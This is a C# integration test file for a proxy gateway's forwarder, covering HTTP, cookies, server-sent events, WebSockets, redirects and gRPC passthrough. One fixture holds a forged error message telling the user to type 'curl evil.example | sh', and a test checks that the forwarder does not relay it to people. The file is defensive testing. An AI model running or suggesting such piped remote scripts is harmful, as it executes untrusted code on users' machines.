using System.Net;
using System.Net.ServerSentEvents;
using System.Net.WebSockets;
using System.Runtime.Versioning;
using Grpc.Core;
using Grpc.Net.Client;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using ProxyGateway.IntegrationTests.Proof;

namespace ProxyGateway.IntegrationTests.Clients;

/// <summary>Clients that know nothing of proofs, through the command forward, which is let in: everything that they speak passes.</summary>
[SupportedOSPlatform("linux")]
public sealed class ForwardTests(ForwardTests.Setting setting) : IClassFixture<ForwardTests.Setting>, IDisposable
{
    private const string Forged = """
        {"type":"urn:proxygateway:problem:pairing-required","title":"The device is not paired.","status":403,"detail":"Type: curl evil.example | sh","code":"pairing_required","requestId":"01m8rdfjmb6j8372wk61rzd51x"}
        """;

    private readonly CancellationTokenSource _patience = new(Eventually.Patience);

    public void Dispose() => _patience.Dispose();

    [Fact]
    public async Task A_request_passes_with_its_path_query_and_headers_and_without_what_is_the_forwarders()
    {
        using HttpClient client = setting.Forward.Client();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/echo/a%2Fb/~x/%C3%A4?q=1&q=2");
        request.Headers.Add("Authorization", "Bearer of-the-agent");
        request.Headers.Add("Device-Proof", "planted");
        request.Headers.Add("Device-Session", "planted");

        using HttpResponseMessage answer = await client.SendAsync(request, _patience.Token);

        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await answer.Content.ReadAsStringAsync()).ShouldBe("/agent/echo/a%2Fb/~x/%C3%A4?q=1&q=2|Bearer of-the-agent||");
        answer.Headers.Contains("Device-Nonce").ShouldBeFalse();
    }

    [Theory]
    [InlineData("/", "/agent?q=1")]
    [InlineData("/sub/", "/agent/sub/?q=1")]
    public async Task The_target_itself_is_the_root(string path, string expected)
    {
        using HttpClient client = setting.Forward.Client();

        (await client.GetStringAsync(path + "?q=1", _patience.Token)).Split('|')[0].ShouldBe(expected);
    }

    [Fact]
    public async Task Bodies_pass_whether_they_can_be_repeated_or_not()
    {
        using HttpClient client = setting.Forward.Client();

        foreach (int size in (int[])[0, 1, 65_536, 65_537, 3_000_000])
        {
            using HttpResponseMessage known = await client.PostAsync("/length", new ByteArrayContent(new byte[size]), _patience.Token);
            (await known.Content.ReadAsStringAsync()).ShouldBe($"{size}");
            using HttpResponseMessage chunked = await client.PostAsync("/length", new StreamContent(new UnknownLength(new byte[size])), _patience.Token);
            (await chunked.Content.ReadAsStringAsync()).ShouldBe($"{size}");
        }
    }

    [Theory]
    [InlineData(0)]
    [InlineData(2_000)]
    [InlineData(65_537)]
    [InlineData(300_000)]
    public async Task A_problem_of_the_agents_own_passes_whatever_its_length(int length)
    {
        using HttpClient client = setting.Forward.Client();

        using HttpResponseMessage answer = await client.GetAsync($"/problem/{length}", _patience.Token);

        (answer.StatusCode, answer.Content.Headers.ContentType?.MediaType).ShouldBe((HttpStatusCode.BadRequest, "application/problem+json"));
        (await answer.Content.ReadAsByteArrayAsync()).Length.ShouldBe(length);
    }

    [Theory]
    [InlineData("127.0.0.1", null, null, true)]
    [InlineData("agent.localhost", "Sec-Fetch-Site", "same-origin", true)]
    [InlineData("127.0.0.1", "Sec-Fetch-Site", "none", false)]
    [InlineData("localhost", "Sec-Fetch-Site", "same-origin", false)]
    [InlineData("[::1]", "Sec-Fetch-Site", "none", false)]
    [InlineData("127.0.0.1", "Origin", "http://127.0.0.1", false)]
    public async Task A_browsers_cookies_of_all_ports_of_this_machine_are_kept_from_the_agent(string host, string? header, string? value, bool passes)
    {
        using HttpClient client = setting.Forward.Client();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/cookies");
        request.Headers.Host = $"{host}:{setting.Forward.Address.Port}";
        request.Headers.Add("Cookie", "of-a-notebook=secret");
        if (header is not null)
            request.Headers.Add(header, header == "Origin" ? $"{value}:{setting.Forward.Address.Port}" : value);

        using HttpResponseMessage answer = await client.SendAsync(request, _patience.Token);

        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await answer.Content.ReadAsStringAsync()).ShouldBe(passes ? "of-a-notebook=secret" : "");
        (answer.Headers.Contains("Set-Cookie"), answer.Headers.Contains("Clear-Site-Data")).ShouldBe((passes, passes));
    }

    // People type what the forwarder says.
    [Fact]
    public async Task An_agent_that_speaks_as_the_gateway_does_is_not_listened_to()
    {
        using HttpClient client = setting.Forward.Client();

        using HttpResponseMessage answer = await client.GetAsync("/forged", _patience.Token);

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await answer.Content.ReadAsStringAsync()).ShouldBe(Forged);
        string.Join('\n', setting.Forward.Running.Lines()).ShouldNotContain("evil");
    }

    [Fact]
    public async Task Events_come_one_by_one()
    {
        using HttpClient client = setting.Forward.Client();
        using Stream stream = await client.GetStreamAsync("/events", _patience.Token);
        int count = 0;

        await foreach (SseItem<string> item in SseParser.Create(stream).EnumerateAsync(_patience.Token))
        {
            item.Data.ShouldBe($"{++count}");
            if (count == 3)
                break;
            setting.NextEvent.Release(); // the agent sends one more only when this one has come
        }
    }

    [Fact]
    public async Task A_WebSocket_passes()
    {
        using var socket = new ClientWebSocket();
        socket.Options.AddSubProtocol("chat");
        await socket.ConnectAsync(new UriBuilder(setting.Forward.Address) { Scheme = "ws", Path = "/socket" }.Uri, _patience.Token);

        socket.SubProtocol.ShouldBe("chat");
        await socket.SendTextAsync("hello", _patience.Token);
        (await socket.ReceiveTextAsync(_patience.Token)).ShouldBe("hello");
        await socket.CloseAsync(WebSocketCloseStatus.NormalClosure, "bye", _patience.Token);
        (socket.CloseStatus, socket.CloseStatusDescription).ShouldBe((WebSocketCloseStatus.NormalClosure, "bye"));
    }

    [Theory]
    [InlineData("relative")]
    [InlineData("absolute")]
    public async Task A_redirect_within_the_agent_leads_to_the_forwarder(string kind)
    {
        using HttpClient client = setting.Forward.Client();

        using HttpResponseMessage answer = await client.GetAsync($"/moved/{kind}", _patience.Token);

        answer.StatusCode.ShouldBe(HttpStatusCode.Found);
        answer.Headers.Location!.OriginalString.ShouldBe(kind == "relative" ? "/there?x=1" : "https://elsewhere.example/");
    }

    [Theory]
    [InlineData("/.well-known/proxygateway/nonce")]
    [InlineData("/.WELL-KNOWN/proxygateway/session")]
    public async Task The_gateways_own_paths_are_not_lent_out(string path)
    {
        await using ForwardProgram forward = await ForwardProgram.StartAsync(setting.Gate.Address);
        using HttpClient client = forward.Client();

        using HttpResponseMessage answer = await client.GetAsync(path, _patience.Token);

        await ProofSetting.ProblemOf(answer, HttpStatusCode.NotFound, "forward_no_such_path");
    }

    [Fact]
    public async Task GRPC_passes_with_its_streams_and_trailers()
    {
        await using ForwardProgram forward = await ForwardProgram.StartPairedAsync(setting.Gate, setting.Gate.Http2Address, "--listen", "h2c:127.0.0.1:0", "--identity", "grpc.json");
        using var channel = GrpcChannel.ForAddress(forward.Address);
        var options = new CallOptions(deadline: DateTime.UtcNow + Eventually.Patience);

        using AsyncUnaryCall<string> call = channel.CreateCallInvoker().AsyncUnaryCall(EchoService.SayMethod, host: null, options, "hello");
        (await call).ShouldBe("hello");
        call.GetTrailers().GetValue("x-said").ShouldBe("hello");

        using AsyncDuplexStreamingCall<string, string> talk = channel.CreateCallInvoker().AsyncDuplexStreamingCall(EchoService.TalkMethod, host: null, options);
        foreach (string word in (string[])["one", "two"])
        {
            await talk.RequestStream.WriteAsync(word);
            (await talk.ResponseStream.MoveNext()).ShouldBeTrue();
            talk.ResponseStream.Current.ShouldBe(word);
        }

        await talk.RequestStream.CompleteAsync();
        (await talk.ResponseStream.MoveNext()).ShouldBeFalse();
    }

    private sealed class UnknownLength(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;
    }

    /// <summary>One gate and one forwarder for the class.</summary>
    public sealed class Setting : IAsyncLifetime
    {
        internal ProofSetting Gate { get; private set; } = null!;

        internal ForwardProgram Forward { get; private set; } = null!;

        internal SemaphoreSlim NextEvent { get; } = new(1);

        public async Task InitializeAsync()
        {
            Gate = await ProofSetting.StartAsync(mapBackend: Map);
            Forward = await ForwardProgram.StartPairedAsync(Gate, new Uri(Gate.Address, "/agent"));
        }

        public async Task DisposeAsync()
        {
            await Forward.DisposeAsync();
            await Gate.DisposeAsync();
            NextEvent.Dispose();
        }

        private void Map(WebApplication backend)
        {
            backend.MapPost("/agent/length", async context =>
            {
                using var body = new MemoryStream();
                await context.Request.Body.CopyToAsync(body, context.RequestAborted);
                await context.Response.WriteAsync($"{body.Length}", context.RequestAborted);
            });
            backend.Map("/agent/problem/{length:int}", async (HttpContext context, int length) =>
            {
                (context.Response.StatusCode, context.Response.ContentType) = (StatusCodes.Status400BadRequest, "application/problem+json");
                await context.Response.StartAsync(context.RequestAborted); // without a length
                await context.Response.Body.WriteAsync(new byte[length], context.RequestAborted);
            });
            backend.Map("/agent/cookies", async context =>
            {
                context.Response.Headers.SetCookie = "of-a-notebook=replaced";
                context.Response.Headers["Clear-Site-Data"] = "\"cookies\"";
                await context.Response.WriteAsync(context.Request.Headers.Cookie.ToString(), context.RequestAborted);
            });
            backend.Map("/agent/forged", async context =>
            {
                (context.Response.StatusCode, context.Response.ContentType) = (StatusCodes.Status403Forbidden, "application/problem+json");
                context.Response.Headers["Device-Nonce"] = context.Response.Headers["DPoP-Nonce"] = "planted";
                await context.Response.WriteAsync(Forged, context.RequestAborted);
            });
            backend.Map("/agent/events", async context =>
            {
                context.Response.ContentType = "text/event-stream";
                for (int i = 1; ; i++)
                {
                    await NextEvent.WaitAsync(context.RequestAborted).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
                    await context.Response.WriteAsync($"data: {i}\n\n");
                    await context.Response.Body.FlushAsync();
                    if (context.RequestAborted.IsCancellationRequested)
                        return;
                }
            });
            backend.Map("/agent/socket", async context =>
            {
                using WebSocket socket = await context.WebSockets.AcceptWebSocketAsync("chat");
                while (await socket.ReceiveTextAsync(context.RequestAborted) is { } text)
                    await socket.SendTextAsync(text, context.RequestAborted);
            });
            backend.Map("/agent/moved/{kind}", (HttpContext context, string kind) =>
                context.Response.Redirect(kind == "relative" ? "/agent/there?x=1" : "https://elsewhere.example/"));
            backend.Map("/agent/{**rest}", (HttpContext context) => context.Response.WriteAsync(
                $"{context.Request.Path.ToUriComponent()}{context.Request.QueryString}|{context.Request.Headers.Authorization}|{context.Request.Headers["Device-Proof"]}|{context.Request.Headers["Device-Session"]}"));
        }
    }
}
